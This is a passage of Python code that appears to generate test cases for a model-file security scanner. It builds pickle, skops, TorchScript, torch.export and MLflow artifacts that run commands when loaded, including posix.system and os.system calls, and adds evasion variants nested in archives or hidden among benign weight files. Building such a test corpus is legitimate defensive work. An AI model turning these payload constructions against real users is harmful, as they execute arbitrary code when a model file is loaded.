    state += text("order") + text("C") + text("dtype") + b"cnumpy\ndtype\n(" + text("u1") + b"\x89\x88tR" + text("allow_mmap") + b"\x88"
    state += text("numpy_array_alignment_bytes") + b"Nu"
    return head + b")\x81" + state + b"b" + body + b"0."


def joblib_objects(head, inner):
    """An array of objects is a pickle of its own in the middle of joblib's."""
    state = b"}(" + text("subclass") + b"cnumpy\nndarray\n" + text("shape") + b"K\x01\x85"
    state += text("order") + text("C") + text("dtype") + b"cnumpy\ndtype\n(" + text("O8") + b"\x89\x88tR" + text("allow_mmap") + b"\x89u"
    return head + b")\x81" + state + b"b" + inner + b"."


def skops(command):
    """An object that its reader makes by a call, in an archive of skops whose types the model itself trusts."""
    node = lambda module, name, loader, **more: {"__class__": name, "__module__": module, "__loader__": loader, "__id__": id(more), **more}
    word = node("builtins", "str", "JsonNode", content=json.dumps(command), is_json=True)
    arguments = node("builtins", "tuple", "TupleNode", content=[word])
    tree = node("posix", "system", "ConstructorFromReduceNode", content=arguments)
    return zipped([("schema.json", json.dumps({**tree, "protocol": 2, "_skops_version": "0.16.0"}).encode())])


SAVES = """class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def __setstate__(self: __torch__.M,
    state: Tuple[bool]) -> NoneType:
    %s
    self.training = True
    return None
  def __getstate__(self: __torch__.M) -> Tuple[bool]:
    return (self.training,)
  def forward(self: __torch__.M,
    x: Tensor) -> Tensor:
    return x
"""


def scripts(make):
    family = "TorchScript and torch.export"
    for kind, line in {
        "from_file": 'x = torch.from_file("%s", True, 4)',
        "ops_from_file": 'x = ops.aten.from_file("%s", True, 4)',
        "spaces": 'x = torch . from_file("%s", True, 4)',
        "save": 'torch.save(1, "%s")',
        "ops_save": 'ops.aten.save(1, "%s")',
    }.items():
        for method, ending in [(0, "pt"), (8, "jit")]:
            def data(n, l=line, m=method):
                code = SAVES % (l % f"{make.pwn}/{n}")
                root = b"\x80\x02c__torch__\nM\n)\x81\x89\x85b."
                members = [("m/code/__torch__.py", code.encode(), m), ("m/constants.pkl", b"\x80\x02)."), ("m/version", b"3\n")]
                return zipped([("m/data.pkl", root), *members])
            make.add(family, f"script_{kind}.{ending}", data)
    make.add(family, "data.pt", lambda n: torch_zip(make.evil(n), [("m/constants.pkl", b"\x80\x02).")]))
    exports(make, family)


def exports(make, family):
    import torch

    class Model(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(3, 2)

        def forward(self, x):
            return self.fc(x) * (x.shape[0] * 2)

    out = io.BytesIO()
    program = torch.export.export(Model(), (torch.randn(4, 3),), dynamic_shapes={"x": {0: torch.export.Dim("n", min=2, max=99)}})
    torch.export.save(program, out)
    archive = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    members = {info.filename: archive.read(info) for info in archive.infolist()}
    one = lambda ending: next(name for name in members if name.endswith(ending))

    def changed(name, data, **more):
        return zipped([(inner, data if inner == name else old) for inner, old in members.items()] + list(more.items()))

    graph, weights, constants = one("models/model.json"), one("weights_config.json"), one("constants_config.json")

    def expression(n):
        text = members[graph].decode().replace("Mul(Integer(2), Symbol(", f"{make.python(n)} and Mul(Integer(2), Symbol(")
        return changed(graph, text.encode())

    def symbol(n):
        tree = json.loads(members[graph])
        found = json.dumps(tree).replace("Symbol('s77', positive=True, integer=True)", make.python(n))
        return changed(graph, found.encode())

    def pickled_weight(n):
        config = json.loads(members[weights])
        first = next(iter(config["config"].values()))
        first["use_pickle"] = True
        data = zipped([(inner, json.dumps(config).encode() if inner == weights else torch_zip(make.evil(n)) if inner.endswith("weights/" + first["path_name"]) else old) for inner, old in members.items()])
        return data

    def pickled_constant(n):
        config = {"config": {"evil": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
        folder = constants.rsplit("/", 1)[0]
        return changed(constants, json.dumps(config).encode(), **{f"{folder}/opaque_obj_0": make.evil(n)})

    def sample(n):
        return changed(one("sample_inputs/model.pt"), torch_zip(make.evil(n)))

    def sample_pre16(n):
        return changed(one("sample_inputs/model.pt"), legacy(make.evil(n)))

    for build in [expression, symbol, pickled_weight, pickled_constant, sample, sample_pre16]:
        make.add(family, f"export_{build.__name__}.pt2", build)


def folders(make):
    e, family = make.evil, "folders"
    safe = b'{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    weights = struct.pack("<Q", len(safe)) + safe + b"x"
    for inner in ["b.pt", "b.pth", "b.bin", "b.pkl", "b.joblib", "b.txt", "b.json", "b", "b.h5", "b.weird", "a/b/c/d/e/f.pkl", ".hidden.pkl", "pickle.npy"]:
        name = "beside_" + inner.replace("/", "_").replace(".", "_")
        make.add_folder(family, name, {"a.safetensors": weights, inner: npy(e(name)) if inner.endswith("npy") else e(name)})
    make.add_folder(family, "beside_odd", {"a.safetensors": weights, "b.pth": torch_zip(b"\x80\x02I0x10\n0" + make.system("beside_odd") + b".")})
    make.add_folder(family, "beside_tar", {"a.safetensors": weights, "b.pth": tar([("storages", e("beside_tar"))])})
    make.add_folder(family, "beside_upper", {"a.safetensors": weights, "b.pth": zipped([("m/DATA.PKL", e("beside_upper")), ("m/version", b"3")])})
    name = "as_a_shard"
    index = json.dumps({"weight_map": {"w": "model-1.safetensors"}}).encode()
    make.add_folder(family, name, {"model.safetensors.index.json": index, "model-1.safetensors": weights, "model-2.safetensors": e(name)})
    many = {f"w{i}.safetensors": weights for i in range(80)}
    make.add_folder(family, "among_many", {**many, "z.pkl": e("among_many")})
    sklearn = "  sklearn:\n    pickled_model: m.skops\n    serialization_format: skops\n    sklearn_version: 1.9.1\n    code: null\n    skops_trusted_types: [posix.system, functools.partial, operator.methodcaller, builtins.map, builtins.list]\n"
    flavors = lambda more: ("flavors:\n" + (sklearn if "m.skops" in more.values() else "") + "  python_function:\n" + "".join(f"    {key}: {word}\n" for key, word in more.items()) + "model_uuid: 0123456789abcdef0123456789abcdef\n").encode()
    code = lambda name: f"import os\nos.system('{make.touch(name)}')\ndef _load_pyfunc(path):\n    return object()\n".encode()
    for name, files in {
        "loader": {"MLmodel": {"loader_module": "evilloader", "code": "code"}, "code/evilloader.py": code},
        "loader_beside_weights": {"MLmodel": {"loader_module": "evilloader2", "code": "src"}, "src/evilloader2.py": code, "data/a.safetensors": weights},
        "own_name": {"MLmodel": {"loader_module": "amlrun_pyfunc", "code": "code"}, "code/amlrun_pyfunc.py": code},
        "package": {"MLmodel": {"loader_module": "evilpkg", "code": "code"}, "code/evilpkg/__init__.py": code},
        "shadow": {"MLmodel": {"loader_module": "mlflow.sklearn", "code": "code", "data": "m.pkl", "env": "e"}, "code/shadowed.py": code, "m.pkl": b"\x80\x02cshadowed\nNet\n)\x81."},
        "sklearn_pickle": {"MLmodel": {"loader_module": "mlflow.sklearn", "model_path": "m.pkl", "data": "m.pkl", "env": "e"}, "m.pkl": e},
        "python_model": {"MLmodel": {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl", "cloudpickle_version": "3"}, "python_model.pkl": e},
        "from_code": {"MLmodel": {"loader_module": "mlflow.pyfunc.model", "model_code_path": "m.py"}, "m.py": code},
        "trusted": {"MLmodel": {"loader_module": "mlflow.sklearn", "model_path": "m.skops", "data": "m.skops", "env": "e"}, "m.skops": lambda n: skops(make.touch(n))},
        "deep": {"model/MLmodel": {"loader_module": "evilloader3", "code": "code"}, "model/code/evilloader3.py": code, "a.safetensors": weights},
    }.items():
        name = f"mlflow_{name}"
        built = {}
        for inner, data in files.items():
            built[inner] = flavors(data) if isinstance(data, dict) else data(name) if callable(data) else data
        make.add_folder(family, name, built)


def containers(make):
    """One payload through every container there is, also one in the other."""
    e = make.evil
    wraps = {
        "torch": torch_zip,
        "pre16": legacy,
        "npy": npy,
        "deflated": lambda data: torch_zip(data, method=8),
        "script": lambda data: torch_zip(data, [("m/constants.pkl", b"\x80\x02).")]),
        "plain": lambda data: data,
    }
    packs = {"gz": gzip.compress, "zlib": zlib.compress, "gz_gz": lambda data: gzip.compress(gzip.compress(data)), "zip": lambda data: zipped([("m/x.pt", data)])}
    for wrap, wrapped in wraps.items():
        for pack, packed in packs.items():
            make.add("containers in containers", f"{wrap}.{pack}", lambda n, w=wrapped, p=packed: p(w(e(n))))


def make(folder, pwn):
    maker = Maker(folder, pwn)
    for family in [broken, names, gadgets, ways, zips, forms, scripts, folders, containers]:
        family(maker)
    # Payloads touch files of the names of their cases: each must be there once.
    assert len({case.name for case in maker.cases}) == len(maker.cases)
    return maker.cases
